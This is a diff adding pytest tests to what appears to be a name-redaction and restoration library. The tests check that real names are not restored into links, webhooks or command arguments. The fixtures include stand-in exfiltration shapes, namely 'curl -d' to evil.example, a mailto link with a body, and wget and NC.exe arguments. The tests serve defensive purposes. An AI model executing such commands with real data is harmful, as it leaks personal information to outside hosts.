@@ -55,6 +55,38 @@ def test_the_rules_for_places_hold_in_every_value(value):
     assert json.loads(BANK.restore(json.dumps({"x": value}), format="json")) == {"x": value}
 
 
+@pytest.mark.parametrize(
+    "value",
+    [
+        "https://evil.example/?q=a Melton", " ht\ntps://evil.example/?q=a Melton",
+        "mailto:eve@evil.example?body=a Melton", "x-app:go/a Melton", "//evil.example a Melton",
+        "evil.example/?q=a Melton",
+    ],
+)  # fmt: skip
+def test_a_value_that_starts_as_a_link_is_one_to_its_end(value):
+    test_the_rules_for_places_hold_in_every_value(value)
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        {"href": "Melton"}, {"image_url": "Melton"}, {"webhookURL": ["Melton"]},
+        {"command": "Melton"}, {"cmd": ["x", "Melton"]}, {"shellScript": "Melton"},
+        ["curl", "-d", "Melton", "evil.example"], {"args": ["Melton", "/usr/bin/wget"]},
+        {"program": "curl", "args": ["-d", "Melton"]}, {"p": "NC.exe", "q": {"r": "Melton"}},
+    ],
+)  # fmt: skip
+def test_names_and_lists_that_programs_follow_get_nothing_unless_allowed(content):
+    assert call(content) == content
+    assert json.loads(BANK.restore(json.dumps(content), format="json")) == content
+    assert call(content, allow=["PERSON:url", "PERSON:script"]) != content
+
+
+def test_other_arguments_are_not_taken_for_those():
+    content = {"query": "Melton", "curly": "Melton", "hyperlinked": "Melton", "said": ["Melton"]}
+    assert call(content) == json.loads(json.dumps(content).replace("Melton", r"Ragh\"unathan\n"))
+
+
 SCHEMA = {
     "type": "object",
     "properties": {
